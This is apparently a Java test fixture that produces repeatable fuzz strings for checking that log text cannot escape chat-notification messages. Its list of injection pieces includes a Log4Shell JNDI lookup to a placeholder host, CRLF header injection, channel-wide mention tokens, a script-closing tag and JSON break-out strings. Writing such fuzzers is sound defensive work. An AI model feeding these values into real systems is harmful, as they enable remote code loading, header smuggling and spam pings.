package dev.gatehouse.connect.sink;

import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/** Texts as somebody would write them into a log who wants to break out of the message that tells of it. */
public final class Hostile {
    private static final List<String> PIECES = List.of(
            "<!channel>",
            "<!here|x>",
            "<@U024BE7LH>",
            "<#C024BE7LR>",
            "<http://203.0.113.9|Open in Gatehouse>",
            "<at>everyone</at>",
            "@here",
            "[Open](http://203.0.113.9)",
            "{{DATE(2017-02-14T06:00:00Z, SHORT)}}",
            "@{triggerBody()}",
            "${jndi:ldap://203.0.113.9/a}",
            "{title}",
            "{nothing}",
            "*bold*",
            "_it_",
            "~no~",
            "```code```",
            ":white_check_mark:",
            "> quote",
            "&amp;",
            "&lt;!channel&gt;",
            "\r\nX-Injected: 1\r\n\r\n",
            "\n",
            "\u0000",
            "\u001b[2J",
            "\u2028",
            "\u202ereversed",
            "\u200b",
            "\ud800",
            "\udc00",
            "\ud83d\ude00",
            "\"",
            "\\",
            "\\u003c",
            "\"}]}",
            "',\"event\":{}",
            "</script>",
            "a",
            "kim@contoso.example",
            " ",
            "",
            "é",
            "|",
            ",",
            "=",
            ".");

    private Hostile() {}

    /** So many texts, always the same. */
    public static Stream<String> texts(int count) {
        Random random = new Random(29);
        return Stream.generate(() -> text(random)).limit(count);
    }

    private static String text(Random random) {
        StringBuilder text = new StringBuilder();
        for (int pieces = random.nextInt(12); pieces >= 0; pieces--) {
            String piece = PIECES.get(random.nextInt(PIECES.size()));
            text.append(piece.repeat(random.nextInt(20) == 0 ? 400 : 1));
        }
        return text.toString();
    }
}
